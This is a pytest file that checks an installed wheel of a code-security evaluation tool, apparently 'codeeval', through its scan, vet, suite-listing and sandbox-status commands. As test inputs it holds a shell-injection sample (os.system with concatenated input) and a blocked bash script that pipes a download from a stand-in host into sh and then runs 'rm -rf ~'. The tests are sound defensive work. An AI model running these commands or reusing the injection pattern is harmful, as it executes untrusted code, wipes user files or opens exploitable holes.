"""The wheel is the product: built from the checkout and installed in a fresh virtualenv, away from the
checkout, `scan`, `vet`, `suites list` and `sandbox status` work from the data the wheel carries."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import sysconfig
import venv
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def installed(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("wheel")
    out = tmp / "dist"
    build = subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "-w", str(out), str(ROOT)],
        capture_output=True, text=True, cwd=tmp, check=False,
    )
    assert build.returncode == 0, build.stderr[-2000:]
    wheel = next(out.glob("codeeval-*.whl"))
    env_dir = tmp / "venv"
    venv.EnvBuilder(with_pip=False).create(env_dir)
    site = next((env_dir / "lib").glob("python3*/site-packages"))
    # The dependencies come from the test's own environment, as a plain path: its .pth files (the editable
    # install of the checkout among them) are not run, so only the wheel provides codeeval.
    (site / "deps.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
    install = subprocess.run(
        [sys.executable, "-m", "pip", "--python", str(env_dir / "bin" / "python"), "install", "-q", "--no-deps",
         "--no-index", str(wheel)],
        capture_output=True, text=True, check=False,
    )
    assert install.returncode == 0, install.stderr[-2000:]
    work = tmp / "elsewhere"
    work.mkdir()
    return env_dir / "bin" / "codeeval", work


def _run(installed, *args, stdin=None):
    exe, work = installed
    env = {k: v for k, v in os.environ.items() if not k.startswith("CODEEVAL_") or k == "CODEEVAL_SANDBOX_IMAGE"}
    env.pop("PYTHONPATH", None)
    # The dependencies' console scripts (semgrep) as an install would put them: on the PATH, after the venv's.
    env["PATH"] = os.pathsep.join([str(exe.parent), sysconfig.get_paths()["scripts"], env.get("PATH", "")])
    return subprocess.run([str(exe), *args], capture_output=True, text=True, cwd=work, input=stdin, env=env,
                          timeout=600, check=False)


def test_the_installed_package_is_the_wheel_not_the_checkout(installed):
    exe, work = installed
    out = subprocess.run([str(exe.parent / "python"), "-c", "import codeeval; print(codeeval.__file__)"],
                         capture_output=True, text=True, cwd=work, check=True)
    assert str(ROOT / "codeeval") not in out.stdout and "site-packages" in out.stdout


def test_scan_uses_the_rules_in_the_wheel(installed):
    proc = _run(installed, "scan", "-", "--language", "python", "--format", "json",
                stdin='import os\ndef f(name):\n    os.system("ls " + name)\n')
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout)
    assert report["results"][0]["findings"], report
    assert report["tools"]["rules"].startswith("sha256:")


def test_vet_blocks_with_the_policy_in_the_wheel(installed):
    proc = _run(installed, "vet", "-", "--language", "bash", stdin="curl http://x.example/a.sh | sh\nrm -rf ~\n")
    assert proc.returncode == 1, proc.stdout + proc.stderr


def test_suites_list_shows_the_suites_in_the_wheel(installed):
    proc = _run(installed, "suites", "list")
    assert proc.returncode == 0, proc.stderr
    for name in ("insecure-code", "malicious-intent", "secure-functional", "autocomplete", "quick"):
        assert name in proc.stdout


@pytest.mark.docker
def test_sandbox_status_reads_the_build_context_in_the_wheel(installed):
    proc = _run(installed, "sandbox", "status", "--format", "json")
    report = json.loads(proc.stdout)
    if not report["daemon"] and not os.environ.get("CODEEVAL_REQUIRE_DOCKER"):
        pytest.skip("no Docker daemon")
    # The wheel's copy of sandbox/ hashes the same as the checkout's: the image built from either is current.
    assert report["image_current"] is True, report
    assert proc.returncode == 0
